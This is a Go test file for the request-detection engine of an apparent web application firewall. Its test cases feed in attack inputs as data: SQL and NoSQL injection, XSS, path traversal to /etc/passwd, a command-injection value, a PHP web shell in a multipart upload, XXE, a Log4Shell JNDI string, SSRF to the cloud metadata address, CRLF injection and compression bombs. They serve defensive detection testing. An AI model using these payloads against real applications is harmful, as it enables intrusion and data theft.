@@ -1,0 +1,297 @@
+package detect_test
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/palisadewaf/palisade/agent/detect"
+	"github.com/palisadewaf/palisade/cloud/apiv1/point"
+)
+
+func get(path, query string) *detect.Request {
+	return &detect.Request{AppID: 1, Method: "GET", Host: "shop.example.com", Path: path, RawQuery: query, Header: http.Header{}}
+}
+
+func post(path, ct, body string) *detect.Request {
+	return &detect.Request{AppID: 1, Method: "POST", Host: "shop.example.com", Path: path, Header: http.Header{}, ContentType: ct, Body: []byte(body)}
+}
+
+func hasDetection(res *detect.Result, typ, at string) bool {
+	for _, d := range res.Detections {
+		if d.Type == typ && d.Point.String() == at {
+			return true
+		}
+	}
+	return false
+}
+
+func TestDetectionsAtPoints(t *testing.T) {
+	jwtPayload := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"1' OR '1'='1"}`))
+	jwt := "eyJhbGciOiJIUzI1NiJ9." + jwtPayload + ".c2ln"
+	mp := "--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"
+	tests := []struct {
+		name    string
+		req     *detect.Request
+		typ, at string
+	}{
+		{"query", get("/", "id=1%27%20OR%20%271%27%3D%271"), "sqli", "query.id"},
+		{"double encoded", get("/", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), "xss", "query.q"},
+		{"path traversal", get("/files/..%2f..%2f..%2fetc%2fpasswd", ""), "ptrav", "path"},
+		{"form", post("/c", "application/x-www-form-urlencoded", "a=1&cmd=%3B+cat+%2Fetc%2Fpasswd"), "rce", "body|form.cmd"},
+		{"json", post("/api", "application/json", `{"user":{"name":"<svg/onload=alert(1)>"}}`), "xss", "body|json.user.name"},
+		{"json unicode escapes", post("/api", "application/json", `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), "xss", "body|json.q"},
+		{"nosql operator", post("/login", "application/json", `{"user":"admin","pass":{"$ne":null}}`), "nosqli", "body|json.pass.$ne:name"},
+		{"nosql in query name", get("/login", "user=admin&pass[$ne]=x"), "nosqli", `query["pass[$ne]"]:name`},
+		{"xml attribute", post("/soap", "text/xml", `<r><u id="' UNION SELECT password FROM users--">x</u></r>`), "sqli", "body|xml.r.u@id"},
+		{"xxe", post("/soap", "application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), "xxe", "body|xml"},
+		{"multipart filename", post("/up", "multipart/form-data; boundary=XyZ", mp), "rce", "body|multipart.doc:filename"},
+		{"multipart content", post("/up", "multipart/form-data; boundary=XyZ", mp), "rce", "body|multipart.doc"},
+		{"base64 in query", get("/", "data="+base64.StdEncoding.EncodeToString([]byte(`{"a":"${jndi:ldap://x.example/a}"}`))), "log4shell", "query.data|base64|json.a"},
+		{"jwt claim", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"Authorization": {"Bearer " + jwt}}}, "sqli", "header.authorization|jwt.payload.sub"},
+		{"graphql argument", post("/graphql", "application/json", `{"query":"{ user(id: \"1' UNION SELECT 1,2--\") { name } }"}`), "sqli", "body|graphql.query.user.id"},
+		{"graphql variable", post("/graphql", "application/json", `{"query":"query($id: ID) { user(id: $id) { name } }","variables":{"id":"<script>alert(1)</script>"}}`), "xss", "body|graphql.variables.id"},
+		{"cookie", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"Cookie": {"a=1; lang=../../../../etc/passwd"}}}, "ptrav", "cookie.lang"},
+		{"user agent", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"User-Agent": {"sqlmap/1.7"}}}, "scanner", "header.user-agent"},
+		{"probe path", get("/.git/config", ""), "scanner", "path"},
+		{"ssrf", get("/fetch", "url=http://169.254.169.254/latest/meta-data/"), "ssrf", "query.url"},
+		{"open redirect", get("/login", "next=//evil.example"), "redir", "query.next"},
+		{"crlf", get("/", "lang=en%0d%0aSet-Cookie:%20x=1"), "crlf", "query.lang"},
+		{"ssti", get("/", "name={{7*7}}"), "ssti", "query.name"},
+		{"ldap", get("/", "user=*)(uid=*))(|(uid=*"), "ldapi", "query.user"},
+		{"json nesting bomb", post("/api", "application/json", strings.Repeat("[", 5000)+strings.Repeat("]", 5000)), "data_bomb", "body|json"},
+	}
+	e := detect.New(detect.Options{})
+	for _, tt := range tests {
+		res := e.Inspect(tt.req)
+		if !hasDetection(res, tt.typ, tt.at) {
+			var got []string
+			for _, d := range res.Detections {
+				got = append(got, d.Type+"@"+d.Point.String())
+			}
+			t.Errorf("%s: want %s at %s, got %v", tt.name, tt.typ, tt.at, got)
+		}
+	}
+}
+
+func TestHPPKeepsEveryValue(t *testing.T) {
+	res := detect.New(detect.Options{}).Inspect(get("/", "id=1&id=2&id=3"))
+	n := 0
+	for _, v := range res.Values {
+		if v.Point.String() == "query.id" {
+			n++
+		}
+	}
+	if n != 3 {
+		t.Errorf("query.id values = %d, want 3", n)
+	}
+	// Split across repeated names, the injection is only seen joined.
+	res = detect.New(detect.Options{}).Inspect(get("/", "id=1%20UNION%2F*&id=*%2FSELECT%201,2,3--"))
+	if !hasDetection(res, "sqli", "query.id") {
+		t.Errorf("HPP-split injection not detected: %+v", res.Detections)
+	}
+}
+
+func TestCompressionBomb(t *testing.T) {
+	var b bytes.Buffer
+	zw := gzip.NewWriter(&b)
+	zw.Write(make([]byte, 64<<20))
+	zw.Close()
+	req := post("/api", "application/json", "")
+	req.Body, req.ContentEncoding = b.Bytes(), "gzip"
+	res := detect.New(detect.Options{}).Inspect(req)
+	if !hasDetection(res, "data_bomb", "body|gzip") || !res.Truncated {
+		t.Errorf("bomb: detections %+v truncated %v", res.Detections, res.Truncated)
+	}
+	// A gzip body within limits is decoded and inspected.
+	b.Reset()
+	zw = gzip.NewWriter(&b)
+	zw.Write([]byte(`{"q":"' OR 1=1--"}`))
+	zw.Close()
+	req.Body = b.Bytes()
+	if res := detect.New(detect.Options{}).Inspect(req); !hasDetection(res, "sqli", "body|gzip|json.q") {
+		t.Errorf("gzip body: %+v", res.Detections)
+	}
+}
+
+func TestValuesForMasking(t *testing.T) {
+	req := post("/login", "application/json", `{"user":"alice","password":"hunter2","card":{"number":"4111111111111111"}}`)
+	req.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("alice:s3cret")))
+	res := detect.New(detect.Options{}).Inspect(req)
+	want := map[string]string{
+		"body|json.password":          "hunter2",
+		"body|json.card.number":       "4111111111111111",
+		"header.authorization|base64": "alice:s3cret",
+		"header.authorization":        "Basic YWxpY2U6czNjcmV0",
+		"path":                        "/login",
+	}
+	got := map[string]string{}
+	for _, v := range res.Values {
+		got[v.Point.String()] = v.Value
+	}
+	for p, v := range want {
+		if got[p] != v {
+			t.Errorf("value at %s = %q, want %q", p, got[p], v)
+		}
+	}
+}
+
+func mustRules(t *testing.T, cfg detect.RulesConfig) *detect.Rules {
+	t.Helper()
+	r, err := detect.NewRules(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+func TestRules(t *testing.T) {
+	e := detect.New(detect.Options{})
+	e.SetRules(mustRules(t, detect.RulesConfig{
+		Version: 7,
+		CustomDetectors: []detect.CustomDetector{
+			{RuleID: 10, AppID: 1, Type: "sqli", Points: []point.Pattern{point.MustParsePattern("query.order")}, Regex: `(?i)^[a-z_]+\s+(asc|desc)\s*,`},
+			{RuleID: 11, Type: "data_leak", Regex: `\b\d{16}\b`, Experimental: true},
+		},
+		VirtualPatches: []detect.VirtualPatch{
+			{RuleID: 20, AppID: 1, Method: "POST", Path: `^/wp-admin/admin-ajax\.php$`, Conditions: []detect.PointCondition{{Point: point.MustParsePattern("body|form.action"), Regex: `^revslider_show_image$`}}},
+		},
+		Disabled: []detect.DisabledAttack{
+			{RuleID: 30, AppID: 1, Type: "xss", Point: point.MustParsePattern("body|json.html")},
+		},
+		Sensitive: []detect.SensitivePoint{
+			{RuleID: 40, AppID: 1, Point: point.MustParsePattern("body|json.**.password")},
+			{RuleID: 41, Point: point.MustParsePattern("cookie.session")},
+		},
+	}))
+
+	res := e.Inspect(get("/list", "order=name%20desc,%20id"))
+	if !hasDetection(res, "sqli", "query.order") || res.Detections[0].DetectorID != "custom.10" || !res.Blocked() {
+		t.Errorf("custom detector: %+v", res.Detections)
+	}
+	if res.RulesVersion != 7 {
+		t.Errorf("RulesVersion = %d", res.RulesVersion)
+	}
+	res = e.Inspect(get("/pay", "note=card%204111111111111111"))
+	if !hasDetection(res, "data_leak", "query.note") || res.Blocked() || !res.Detections[0].Experimental {
+		t.Errorf("experimental detector must report without blocking: %+v", res.Detections)
+	}
+	res = e.Inspect(post("/wp-admin/admin-ajax.php", "application/x-www-form-urlencoded", "action=revslider_show_image&img=x"))
+	if vp := res.VirtualPatch(); vp == nil || vp.RuleID != 20 || vp.Point.String() != "body|form.action" {
+		t.Errorf("virtual patch: %+v", res.Detections)
+	}
+	if res := e.Inspect(get("/wp-admin/admin-ajax.php", "action=revslider_show_image")); res.VirtualPatch() != nil {
+		t.Error("virtual patch matched a GET")
+	}
+	html := `{"html":{"body":"<script>alert(1)</script>"},"other":"<script>alert(1)</script>"}`
+	res = e.Inspect(post("/cms", "application/json", html))
+	if hasDetection(res, "xss", "body|json.html.body") || !hasDetection(res, "xss", "body|json.other") {
+		t.Errorf("disabled xss at body|json.html: %+v", res.Detections)
+	}
+	req := post("/cms", "application/json", html)
+	req.AppID = 2 // the disable rule is for application 1 only
+	if res := e.Inspect(req); !hasDetection(res, "xss", "body|json.html.body") {
+		t.Errorf("disable rule leaked to another application: %+v", res.Detections)
+	}
+	r := e.Rules()
+	for _, tt := range []struct {
+		app  int64
+		p    string
+		want bool
+	}{
+		{1, "body|json.user.password", true},
+		{1, "body|json.password", true},
+		{2, "body|json.password", false},
+		{2, "cookie.session", true},
+		{1, "cookie.session|base64|json.uid", true},
+		{1, "cookie.theme", false},
+	} {
+		if got := r.Sensitive(tt.app, point.MustParse(tt.p)); got != tt.want {
+			t.Errorf("Sensitive(%d, %s) = %v, want %v", tt.app, tt.p, got, tt.want)
+		}
+	}
+}
+
+func TestNewRulesErrors(t *testing.T) {
+	for _, cfg := range []detect.RulesConfig{
+		{CustomDetectors: []detect.CustomDetector{{RuleID: 1, Type: "x", Regex: "("}}},
+		{CustomDetectors: []detect.CustomDetector{{RuleID: 1, Regex: "a"}}},
+		{VirtualPatches: []detect.VirtualPatch{{RuleID: 2}}},
+		{VirtualPatches: []detect.VirtualPatch{{RuleID: 2, Path: "[", Method: "GET"}}},
+		{Disabled: []detect.DisabledAttack{{RuleID: 3, Type: "Not A Type"}}},
+		{Sensitive: []detect.SensitivePoint{{RuleID: 4}}},
+	} {
+		if _, err := detect.NewRules(cfg); err == nil {
+			t.Errorf("NewRules(%+v) accepted", cfg)
+		}
+	}
+}
+
+// TestSetRulesConcurrent swaps rules while requests are inspected (run with
+// -race): every inspection sees one whole ruleset.
+func TestSetRulesConcurrent(t *testing.T) {
+	e := detect.New(detect.Options{})
+	rules := []*detect.Rules{
+		mustRules(t, detect.RulesConfig{Version: 1}),
+		mustRules(t, detect.RulesConfig{Version: 2, CustomDetectors: []detect.CustomDetector{{RuleID: 1, Type: "custom", Regex: "needle"}}}),
+	}
+	var wg sync.WaitGroup
+	for g := 0; g < 4; g++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < 300; i++ {
+				res := e.Inspect(get("/", "q=needle"))
+				if (res.RulesVersion == 2) != (len(res.Detections) == 1) {
+					panic(fmt.Sprintf("version %d with %d detections", res.RulesVersion, len(res.Detections)))
+				}
+			}
+		}()
+	}
+	for i := 0; i < 300; i++ {
+		e.SetRules(rules[i%2])
+	}
+	wg.Wait()
+}
+
+func TestBoundedWork(t *testing.T) {
+	e := detect.New(detect.Options{MaxValues: 100, MaxBody: 1 << 10})
+	res := e.Inspect(get("/", strings.Repeat("a=1&", 1000)))
+	if !res.Truncated || len(res.Values) > 101 {
+		t.Errorf("values %d truncated %v", len(res.Values), res.Truncated)
+	}
+	res = e.Inspect(post("/", "text/plain", strings.Repeat("x", 4096)))
+	if !res.Truncated {
+		t.Error("body over MaxBody not marked truncated")
+	}
+}
+
+// FuzzInspect: any request is inspected without panic, within bounds.
+func FuzzInspect(f *testing.F) {
+	f.Add("/a/b", "x=1&y=%27", "application/json", `{"a":[1,{"b":"<script>"}]}`, "")
+	f.Add("/", "", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\nx\r\n--b--", "")
+	f.Add("/", "q=e30", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a b="c">&b;</a>`, "")
+	f.Add("/g", "", "application/json", `{"query":"{ a(b: \"c\") { d } }","variables":{"e":1}}`, "gzip")
+	e := detect.New(detect.Options{MaxBody: 64 << 10, MaxValues: 512})
+	f.Fuzz(func(t *testing.T, path, query, ct, body, enc string) {
+		req := &detect.Request{Method: "POST", Path: path, RawQuery: query, ContentType: ct, ContentEncoding: enc, Body: []byte(body),
+			Header: http.Header{"Cookie": {query}, "Authorization": {"Bearer " + query}}}
+		res := e.Inspect(req)
+		if len(res.Values) > 512+8 {
+			t.Fatalf("%d values over the limit", len(res.Values))
+		}
+		for _, d := range res.Detections {
+			if d.Start < 0 || d.End > len(d.Value) || d.Start > d.End {
+				t.Fatalf("detection %s has fragment [%d:%d] outside its value of %d bytes", d.DetectorID, d.Start, d.End, len(d.Value))
+			}
+			if _, err := point.Parse(d.Point.String()); err != nil {
+				t.Fatalf("detection point %q does not parse: %v", d.Point, err)
+			}
+		}
+	})
+}
